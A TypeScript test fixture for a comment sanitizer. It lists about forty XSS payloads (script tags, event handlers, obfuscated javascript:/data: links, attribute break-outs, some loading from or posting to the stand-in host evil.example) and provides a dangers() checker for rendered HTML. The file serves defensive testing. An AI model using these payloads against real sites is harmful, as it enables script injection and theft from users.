/**
 * Script-injection attempts tried against comments: raw HTML, event handlers, SVG and MathML,
 * javascript:/vbscript:/data: links in every spelling, autolinks, images, forms, CSS and
 * attribute break-outs. Each must render inert (no script, no handler, no dangerous URL).
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">html link</a>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](//evil.example/x)',
  '[ref]: javascript:alert(1)\n\n[reference link][ref]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![tracking pixel](https://evil.example/pixel.png)',
  '[title break-out](https://example.org "a\\" onmouseover=\\"alert(1)")',
  '[x](https://example.org/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  'www.example.org/?q=<script>alert(1)</script>',
  '<a href="https://example.org" onclick="alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
];

/**
 * Lists what in rendered HTML could run script or leave the page: elements outside the
 * allowlist, event-handler or style attributes, URLs that are not http(s) or mailto. The
 * sanitizer's output always double-quotes attribute values and escapes `<` in text, so real
 * tags and their attributes can be read with two regular expressions.
 */
export function dangers(html: string): string[] {
  const found: string[] = [];
  const allowed = new Set(['p', 'br', 'em', 'strong', 's', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'h4', 'h5', 'h6', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);
  for (const tag of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9:-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    const name = tag[1]!.toLowerCase();
    if (!allowed.has(name)) found.push(`element <${name}>`);
    for (const attr of (tag[2] ?? '').matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)) {
      const attrName = attr[1]!.toLowerCase();
      const value = (attr[2] ?? '').replace(/&amp;/g, '&');
      if (attrName.startsWith('on')) found.push(`handler ${attrName} on <${name}>`);
      if (attrName === 'style' && !/^text-align:(left|right|center);?$/.test(value)) found.push(`style on <${name}>`);
      if (['href', 'src', 'action', 'data', 'formaction', 'xlink:href'].includes(attrName) && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`url ${value}`);
    }
    if (name === 'a' && !tag[0].startsWith('</') && !/\srel="nofollow ugc/.test(tag[0])) found.push('link without rel="nofollow ugc"');
  }
  return found;
}
